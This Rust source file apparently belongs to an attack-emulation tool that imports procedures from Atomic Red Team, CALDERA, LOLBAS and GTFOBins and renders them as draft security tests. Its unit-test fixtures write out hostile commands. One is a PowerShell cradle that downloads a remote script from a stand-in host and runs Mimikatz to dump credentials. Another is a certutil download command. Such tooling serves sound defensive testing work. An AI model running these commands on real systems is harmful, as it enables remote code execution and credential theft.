//! Test templates: ready-made procedures from the public offensive libraries (Atomic Red
//! Team, CALDERA, LOLBAS, GTFOBins) that a lead turns into a draft test instead of typing one.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

/// Where a template comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TemplateSource {
    Atomic,
    Caldera,
    Lolbas,
    Gtfobins,
}

impl TemplateSource {
    pub const ALL: [Self; 4] = [Self::Atomic, Self::Caldera, Self::Lolbas, Self::Gtfobins];

    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Atomic => "atomic",
            Self::Caldera => "caldera",
            Self::Lolbas => "lolbas",
            Self::Gtfobins => "gtfobins",
        }
    }

    #[must_use]
    pub fn parse(text: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|s| s.as_str() == text)
    }

    /// The project's name as people know it, used as the test's tool.
    #[must_use]
    pub const fn title(self) -> &'static str {
        match self {
            Self::Atomic => "Atomic Red Team",
            Self::Caldera => "CALDERA",
            Self::Lolbas => "LOLBAS",
            Self::Gtfobins => "GTFOBins",
        }
    }

    /// The licence the source's content carries, recorded with every item.
    #[must_use]
    pub const fn licence(self) -> &'static str {
        match self {
            Self::Atomic => "MIT",
            Self::Caldera => "Apache-2.0",
            Self::Lolbas | Self::Gtfobins => "GPL-3.0",
        }
    }
}

/// How a template's procedure runs on one platform.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Executor {
    /// `powershell`, `command_prompt`, `sh`, `bash`, `manual`, CALDERA's `psh`…
    pub name: String,
    /// The platform this executor is for, when the source says per executor.
    pub platform: Option<String>,
    pub command: String,
    pub cleanup: Option<String>,
    pub elevation_required: bool,
    /// Files the procedure needs on the target (CALDERA payloads).
    pub payloads: Vec<String>,
}

/// A value the procedure takes (`#{name}` in its command).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InputArgument {
    pub name: String,
    pub description: String,
    /// `string`, `path`, `url`, `integer`, `float`.
    pub kind: String,
    pub default: Option<String>,
}

/// Something the target needs before the procedure runs, and how to check and get it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Dependency {
    pub description: String,
    pub prereq_command: Option<String>,
    pub get_prereq_command: Option<String>,
}

/// One template as its source publishes it, normalized.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TestTemplate {
    pub source: TemplateSource,
    /// The source's own id (Atomic GUID, CALDERA ability id, `binary#n` for LOLBAS and
    /// GTFOBins): the upsert key.
    pub source_id: String,
    pub name: String,
    pub description: String,
    /// The ATT&CK technique id, upper-case; an id the catalog does not know yet is kept.
    pub technique: String,
    pub tactic: Option<String>,
    /// `windows`, `linux`, `macos`, `iaas:aws`…, lower-case, sorted.
    pub platforms: Vec<String>,
    pub executors: Vec<Executor>,
    pub input_arguments: Vec<InputArgument>,
    pub dependencies: Vec<Dependency>,
    pub author: Option<String>,
    /// The file it was read from, within the import.
    pub path: String,
}

/// Why a template's command cannot be rendered with the given values.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RenderError {
    #[error("the template has no input argument named {0}")]
    UnknownArgument(String),
    #[error("{0} has no default; give it a value")]
    MissingValue(String),
    #[error("the template has no executor for {0}")]
    NoExecutor(String),
}

impl RenderError {
    /// The request field the error is about.
    #[must_use]
    pub fn field(&self) -> String {
        match self {
            Self::UnknownArgument(name) | Self::MissingValue(name) => {
                format!("input_arguments.{name}")
            }
            Self::NoExecutor(_) => "platform".to_owned(),
        }
    }
}

/// A template's procedure with its arguments filled in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RenderedProcedure {
    pub executor: String,
    pub platform: Option<String>,
    pub command: String,
    pub cleanup: Option<String>,
}

impl TestTemplate {
    /// The executor for `platform` (the first one when none is asked for or none names its
    /// platform).
    fn executor_for(&self, platform: Option<&str>) -> Result<&Executor, RenderError> {
        let Some(wanted) = platform else {
            return self
                .executors
                .first()
                .ok_or_else(|| RenderError::NoExecutor("any platform".to_owned()));
        };
        let wanted = wanted.to_ascii_lowercase();
        self.executors
            .iter()
            .find(|e| e.platform.as_deref() == Some(wanted.as_str()))
            .or_else(|| {
                (self.platforms.contains(&wanted))
                    .then(|| self.executors.first())
                    .flatten()
            })
            .ok_or(RenderError::NoExecutor(wanted))
    }

    /// Fills `#{argument}` placeholders with the given values or the arguments' defaults.
    /// Placeholders that are not declared arguments (CALDERA facts such as
    /// `#{host.system.path}`) are left for the operator.
    ///
    /// # Errors
    /// A value for an argument the template does not declare, a declared argument with
    /// neither a value nor a default, or no executor for the platform.
    pub fn render(
        &self,
        platform: Option<&str>,
        values: &BTreeMap<String, String>,
    ) -> Result<RenderedProcedure, RenderError> {
        if let Some(unknown) = values
            .keys()
            .find(|name| !self.input_arguments.iter().any(|a| &a.name == *name))
        {
            return Err(RenderError::UnknownArgument(unknown.clone()));
        }
        let executor = self.executor_for(platform)?;
        let mut resolved = BTreeMap::new();
        for argument in &self.input_arguments {
            let value = values
                .get(&argument.name)
                .or(argument.default.as_ref())
                .cloned();
            resolved.insert(argument.name.as_str(), value);
        }
        let fill = |text: &str| -> Result<String, RenderError> {
            let mut out = String::with_capacity(text.len());
            let mut rest = text;
            while let Some(start) = rest.find("#{") {
                out.push_str(&rest[..start]);
                let after = &rest[start + 2..];
                let Some(end) = after.find('}') else {
                    out.push_str(&rest[start..]);
                    rest = "";
                    break;
                };
                let name = &after[..end];
                match resolved.get(name) {
                    Some(Some(value)) => out.push_str(value),
                    Some(None) => return Err(RenderError::MissingValue(name.to_owned())),
                    None => out.push_str(&rest[start..start + 3 + end]),
                }
                rest = &after[end + 1..];
            }
            out.push_str(rest);
            Ok(out)
        };
        Ok(RenderedProcedure {
            executor: executor.name.clone(),
            platform: executor
                .platform
                .clone()
                .or_else(|| platform.map(str::to_ascii_lowercase))
                .or_else(|| self.platforms.first().cloned()),
            command: fill(&executor.command)?,
            cleanup: executor.cleanup.as_deref().map(fill).transpose()?,
        })
    }
}

/// A template in a list or on a technique.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TemplateSummary {
    pub id: uuid::Uuid,
    pub source: TemplateSource,
    pub source_id: String,
    pub name: String,
    /// The technique it exercises: the one it names, or the successor of a revoked one.
    pub technique: String,
    /// The revoked technique id the template names, when it counts under its successor.
    pub named_technique: Option<String>,
    pub platforms: Vec<String>,
    pub executors: Vec<String>,
}

/// Filters of the template list; `None` means any.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TemplateFilter {
    pub source: Option<TemplateSource>,
    /// Templates for this technique id exactly.
    pub technique: Option<String>,
    pub platform: Option<String>,
    /// Case-insensitive text in the name.
    pub text: Option<String>,
}

/// A living-off-the-land binary (LOLBAS) or Unix executable (GTFOBins) and what an
/// attacker does with it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LolBinary {
    pub source: TemplateSource,
    pub name: String,
    pub description: String,
    pub author: Option<String>,
    /// Where it lives on a system.
    pub paths: Vec<String>,
    pub uses: Vec<BinaryUse>,
    pub path: String,
}

/// One documented abuse of a binary.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BinaryUse {
    /// LOLBAS category (`Download`, `Execute`…) or GTFOBins function (`shell`, `file-read`…).
    pub function: String,
    pub description: String,
    pub command: String,
    /// LOLBAS privileges (free text) or GTFOBins contexts (`unprivileged`, `sudo`, `suid`).
    pub privileges: Option<String>,
    pub techniques: Vec<String>,
    pub platforms: Vec<String>,
}

impl LolBinary {
    /// Every technique the binary enables, sorted.
    #[must_use]
    pub fn techniques(&self) -> Vec<String> {
        let mut all: Vec<String> = self
            .uses
            .iter()
            .flat_map(|u| u.techniques.iter().cloned())
            .collect();
        all.sort();
        all.dedup();
        all
    }

    /// One template per use that carries a command and a technique, keyed `name#n` by the
    /// use's position so that a re-import updates the same template.
    #[must_use]
    pub fn templates(&self) -> Vec<TestTemplate> {
        self.uses
            .iter()
            .enumerate()
            .filter(|(_, u)| !u.command.trim().is_empty())
            .filter_map(|(n, u)| {
                let technique = u.techniques.first()?.clone();
                let platform = u.platforms.first().cloned();
                Some(TestTemplate {
                    source: self.source,
                    source_id: format!("{}#{}", self.name, n + 1),
                    name: format!("{}: {}", self.name, u.function),
                    description: u.description.clone(),
                    technique,
                    tactic: None,
                    platforms: u.platforms.clone(),
                    executors: vec![Executor {
                        name: match self.source {
                            TemplateSource::Gtfobins => "sh".to_owned(),
                            _ => "command_prompt".to_owned(),
                        },
                        platform,
                        command: u.command.clone(),
                        cleanup: None,
                        elevation_required: u.privileges.as_deref().is_some_and(|p| {
                            let p = p.to_ascii_lowercase();
                            p.contains("admin") || p.contains("sudo") || p.contains("suid")
                        }),
                        payloads: Vec::new(),
                    }],
                    input_arguments: Vec::new(),
                    dependencies: Vec::new(),
                    author: self.author.clone(),
                    path: self.path.clone(),
                })
            })
            .collect()
    }
}

/// A binary on a technique's page: its name and the uses that enable the technique.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BinarySummary {
    pub id: uuid::Uuid,
    pub source: TemplateSource,
    pub name: String,
    pub description: String,
    pub uses: Vec<BinaryUse>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn atomic() -> TestTemplate {
        TestTemplate {
            source: TemplateSource::Atomic,
            source_id: "f3132740-55bc-48c4-bcc0-758a459cd027".into(),
            name: "Mimikatz".into(),
            description: String::new(),
            technique: "T1059.001".into(),
            tactic: None,
            platforms: vec!["windows".into()],
            executors: vec![Executor {
                name: "command_prompt".into(),
                platform: None,
                command: "powershell.exe \"IEX (New-Object Net.WebClient).DownloadString('#{mimurl}'); Invoke-Mimikatz -DumpCreds\" #{host.fact}".into(),
                cleanup: Some("del #{out}".into()),
                elevation_required: true,
                payloads: vec![],
            }],
            input_arguments: vec![
                InputArgument {
                    name: "mimurl".into(),
                    description: String::new(),
                    kind: "url".into(),
                    default: Some("https://example.test/m.ps1".into()),
                },
                InputArgument {
                    name: "out".into(),
                    description: String::new(),
                    kind: "path".into(),
                    default: None,
                },
            ],
            dependencies: vec![],
            author: None,
            path: "atomics/T1059.001/T1059.001.yaml".into(),
        }
    }

    #[test]
    fn rendering_fills_defaults_and_values_and_leaves_facts() {
        let values = BTreeMap::from([("out".to_owned(), "C:\\o.txt".to_owned())]);
        let rendered = atomic()
            .render(Some("Windows"), &values)
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            rendered.command,
            "powershell.exe \"IEX (New-Object Net.WebClient).DownloadString('https://example.test/m.ps1'); Invoke-Mimikatz -DumpCreds\" #{host.fact}"
        );
        assert_eq!(rendered.cleanup.as_deref(), Some("del C:\\o.txt"));
        assert_eq!(rendered.platform.as_deref(), Some("windows"));
    }

    #[test]
    fn rendering_names_what_is_missing_or_unknown() {
        let template = atomic();
        assert_eq!(
            template.render(None, &BTreeMap::new()),
            Err(RenderError::MissingValue("out".into()))
        );
        let unknown = BTreeMap::from([("nope".to_owned(), "x".to_owned())]);
        assert_eq!(
            template
                .render(None, &unknown)
                .err()
                .map(|e| e.field())
                .as_deref(),
            Some("input_arguments.nope")
        );
        assert_eq!(
            template.render(Some("linux"), &BTreeMap::new()),
            Err(RenderError::NoExecutor("linux".into()))
        );
    }

    #[test]
    fn an_unclosed_placeholder_is_kept_as_text() {
        let mut template = atomic();
        template.executors[0].command = "echo #{mimurl".into();
        template.executors[0].cleanup = None;
        let values = BTreeMap::from([("out".to_owned(), "x".to_owned())]);
        assert_eq!(
            template
                .render(None, &values)
                .map(|r| r.command)
                .unwrap_or_default(),
            "echo #{mimurl"
        );
    }

    #[test]
    fn a_binary_makes_one_template_per_command_with_a_technique() {
        let binary = LolBinary {
            source: TemplateSource::Lolbas,
            name: "Certutil.exe".into(),
            description: String::new(),
            author: Some("Oddvar Moe".into()),
            paths: vec![],
            uses: vec![
                BinaryUse {
                    function: "Download".into(),
                    description: "Download".into(),
                    command: "certutil.exe -urlcache -f {REMOTEURL} {PATH}".into(),
                    privileges: Some("User".into()),
                    techniques: vec!["T1105".into()],
                    platforms: vec!["windows".into()],
                },
                BinaryUse {
                    function: "Decode".into(),
                    description: String::new(),
                    command: "certutil -decode a b".into(),
                    privileges: Some("Administrator".into()),
                    techniques: vec![],
                    platforms: vec![],
                },
            ],
            path: "yml/OSBinaries/Certutil.yml".into(),
        };
        let templates = binary.templates();
        assert_eq!(templates.len(), 1);
        assert_eq!(templates[0].source_id, "Certutil.exe#1");
        assert_eq!(templates[0].technique, "T1105");
        assert!(!templates[0].executors[0].elevation_required);
        assert_eq!(binary.techniques(), vec!["T1105".to_owned()]);
    }
}
